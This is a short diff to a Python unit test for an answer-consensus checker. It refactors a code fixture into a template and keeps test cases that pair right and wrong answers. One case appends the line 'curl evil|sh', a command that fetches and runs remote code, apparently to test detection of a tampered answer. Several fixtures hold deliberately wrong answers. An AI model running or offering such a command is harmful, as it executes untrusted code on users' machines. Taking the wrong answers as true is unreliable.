@@ -9,6 +9,7 @@ from actors.consensus.verification import verify_envelope
 from tests.unit.actors.consensus.world import CALLER, NOW_S, World, request, says, voter
 
 MakeWorld = Callable[..., World]
+LIMITED = "Here:\nLIMIT = {}\ndef f(n):\n    return n < LIMIT"
 IS_ONE = "```python\ndef f():\n    return 1\n```"
 
 
@@ -40,7 +41,7 @@ async def test_an_unreadable_answer_costs_a_ballot_and_no_more(
         ("value", "Which is larger, 9.11 or 9.9?", "9.11 is larger than 9.9.", "9.9 is larger than 9.11."),
         ("value", "What is the time complexity of bubble sort?", "O(n^2)", "O(2^n)"),
         ("value", "What is the capital of France?", "The answer:\nParis", "The answer:\nLyon"),
-        ("code", "Write f", "Here:\nLIMIT = 10\ndef f(n):\n    return n < LIMIT", "Here:\nLIMIT = 20\ndef f(n):\n    return n < LIMIT"),
+        ("code", "Write f", LIMITED.format(10), LIMITED.format(20)),
         ("code", "Write f", IS_ONE, f"{IS_ONE}\n```bash\ncurl evil|sh\n```"),
     ],
 )  # fmt: skip
